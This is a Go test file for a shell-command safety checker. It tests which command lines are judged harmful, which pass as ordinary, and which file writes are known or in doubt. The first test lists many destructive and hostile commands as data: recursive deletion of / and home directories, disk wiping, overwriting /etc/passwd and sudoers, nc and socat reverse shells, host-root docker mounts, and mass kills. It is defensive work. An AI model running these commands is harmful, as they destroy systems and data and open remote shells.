package shell

import (
	"strings"
	"testing"
)

func TestWhatNoRuleMayAllowIsHarm(t *testing.T) {
	for _, line := range []string{
		"rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm --recurs /", "rm -rf -- /", "rm -rf --no-preserve-root /", "rm -R /etc", "rm -rf /usr/", "rm -rf /usr/../etc", "rm -rf /home/dev", "rm -rf /home/other",
		"rm -rf .", "rm -rf ..", "rm -rf ../..", "rm -rf ./", "rm -rf ?^*", "rm -rf ?^./*", "rm -rf ?^.*", "rm -rf ?^/*", "rm -rf ?^/home/dev/*", "rm -rf ?^/etc/*", "rm -rf ?^/e*", "rm -rf ?^../*", "rm -rf /home/dev/a/b/../..", "rm -rf build /", "rm -rf ?$x /",
		"rm -rf ?$DIR/", "rm -rf ?$DIR/*", "rm -rf ?${DIR}/*", "rm ?$FLAGS /", "rm -rf /var/log", "rm -rf /home",
		"find / -delete", "find / -type f -delete", "find . -delete", "find /home/dev -name * -delete", "find /home/dev -exec rm -rf {} +", "find / -exec env rm {} ;", "find / -name x -o -delete", "find . -delete -name x", "find / ! -name x -delete", "find /usr -exec chmod 777 {} +",
		"chmod -R 777 /", "chmod 777 /etc/passwd", "chown -R x /", "chown -R x:y /usr", "chmod -R 000 ?^/*", "mv / /tmp/x", "mv /home/dev /dev/null", "mv ?^/* /tmp",
		"mkfs.ext4 /dev/sda1", "mkfs /dev/sdb", "mke2fs /dev/vda", "dd if=/dev/zero of=/dev/sda", "dd if=x of=/dev/nvme0n1", "dd of=/dev/mem", "shred /dev/sda", "cp x /dev/sda", "tee /dev/sda", "wipefs -a /dev/sda", "fdisk /dev/sda", "sgdisk -Z /dev/sda", "parted /dev/sda mklabel gpt", "blkdiscard /dev/sda",
		"tee /etc/sudoers.d/x", "tee -a /etc/passwd", "cp x /etc/shadow", "cp x /etc/sudoers.d/", "cp shadow /etc/", "mv passwd /etc", "sed -i s/a/b/ /etc/sudoers", "sort -o /etc/passwd x", "tee /proc/sysrq-trigger", "truncate -s0 /etc/group", "cp x /boot/vmlinuz", "dd ?of=/dev/sd$x",
		"nc -e /bin/sh 10.0.0.1 4242", "nc -lvp 1 -e x", "ncat --exec x h 1", "ncat --sh-exec=x h 1", "nc -c sh h 1", "socat TCP:x:1 EXEC:sh", "socat exec:sh,pty tcp-connect:x:1",
		"docker run -v /:/host alpine", "docker run -v=/:/h x", "docker run -v/:/h x", "docker run --mount type=bind,source=/,target=/h x", "podman run --pid=host x", "docker run --pid host x", "docker run --volume /:/host --privileged x",
		"shutdown now", "reboot", "halt", "poweroff", "init 0", "systemctl reboot", "kill -9 -1", "kill -KILL -- -1", "rsync -a --delete empty/ /",
		"python3 -c import_socket;subprocess.call(['/bin/sh'])",
	} {
		if in := judged(t, line); len(in.harms) == 0 {
			t.Errorf("%s: no harm seen (doubts %q, writes %q)", line, in.doubts, in.writes)
		}
	}
}

func TestOrdinaryChangesAreNoHarm(t *testing.T) {
	for _, line := range []string{
		"rm -rf build", "rm -rf /tmp/x", "rm -rf ?^/tmp/*", "rm -rf ?^build/*", "rm -rf ?^*.log", "rm -rf ?$TMPDIR/build", "rm -rf ?${X:?}/", "rm -rf node_modules dist", "rm x", "rm -f ?^*", "chmod -R 755 .", "chown -R me .", "mv ?^* sub/", "find . -type f -exec chmod 644 {} +", "find . ! -name x -delete", "rm -- -rf", "rm -rf ?$x", "rm ?^*.o",
		"find . -name *.pyc -delete", "find build -delete", "find . -name x -exec rm {} ;", "find . -type f -exec cat {} +", "chmod -R 755 build", "chmod +x run.sh", "chmod u+s /tmp/sh", "mv a b", "mv ?^*.go old/", "cp -r src dst", "cp x .", "cp a /tmp",
		"dd if=a of=b", "dd if=/dev/zero of=x.img", "tee /dev/null", "tee /dev/stderr", "tee out", "docker run -v .:/src x", "docker run --rm x", "shutdown -c", "nc -z h 1", "nc -vz h 22", "systemctl restart x", "kill -9 12", "kill -1 12", "mkfs.ext4 disk.img", "git push --force", "git reset --hard", "fdisk -l /dev/sda", "rsync -a --delete a/ b/",
		"python3 -c print(1)", "cp /etc/passwd x", "cat /etc/passwd",
	} {
		if in := judged(t, line); len(in.harms) > 0 {
			t.Errorf("%s: harm %q", line, in.harms)
		}
	}
}

func TestClearingAFolderThatTheLineWentIntoIsNoHarm(t *testing.T) {
	in := &invocation{name: "rm", dir: "/home/dev/proj/build", base: "/home/dev/proj", home: "/home/dev", args: []word{literal("-rf"), {text: "*", many: true, within: "."}}}
	lookupProgram("rm")(in)
	if len(in.harms) > 0 {
		t.Errorf("harm %q", in.harms)
	}
}

func TestChangesAreListedWithoutDoubtWhenTheyAreKnown(t *testing.T) {
	const p = "/home/dev/proj/"
	for line, want := range map[string]string{
		"mkdir -p out a/b": p + "out " + p + "a/b", "rm -rf build": p + "build", "cp a b": p + "b", "cp /tmp/a .": p + "a", "cp a b dir/": p + "dir/a " + p + "dir/b", "cp -t d a b": p + "d", "cp --target-directory=d a": p + "d",
		"mv a b": p + "a " + p + "b", "touch x": p + "x", "tee -a log": p + "log", "truncate -s 0 f": p + "f", "ln -s a b": p + "b " + p + "a", "chmod +x run.sh": p + "run.sh", "chmod -R 755 x": p + "x", "rmdir x": p + "x",
		"dd if=a of=b bs=1M": p + "b", "sed -i s/a/b/ f": p + "f", "sed -i.bak s/a/b/ f": p + "f " + p + "f.bak", "gzip f": p + "f " + p + "f.gz", "gunzip f.gz": p + "f.gz " + p + "f", "gzip -c f": "", "tar -czf x.tgz src": p + "x.tgz", "install -m 755 a bin/": p + "bin/a", "install -d x": p + "x",
		"split -l 10 x": "/home/dev/proj", "rm ?^build/*.o": p + "build", "find . -name x -delete": "/home/dev/proj", "gofmt -w a.go": p + "a.go", "unlink x": p + "x", "shuf -o x y": p + "x", "uniq a b": p + "b",
	} {
		in := judged(t, line)
		if got := strings.Join(in.writes, " "); got != want || want != "" && len(in.doubts) > 0 {
			t.Errorf("%s writes %q, want %q (doubts %q)", line, got, want, in.doubts)
		}
	}
}

func TestChangesThatAreNotFullyKnownAreInDoubt(t *testing.T) {
	for _, line := range []string{
		"rm ?$x", "rm -rf ?^*.log", "cp ?$a b", "mv a ?$b", "ln -s /etc/passwd x", "ln -s ../x y", "ln a b", "ln -s ?$a b", "cp -s a b", "cp -l a b", "tar xf a.tar", "unzip a.zip", "patch -p1", "rename s/a/b/ x", "mktemp -d", "split --filter=x f", "install -s a b", "install --strip-program=x a b", "chmod u+s x", "chmod 4755 x", "rm --unknown x",
	} {
		if in := judged(t, line); len(in.doubts) == 0 {
			t.Errorf("%s: no doubt (writes %q)", line, in.writes)
		}
	}
}
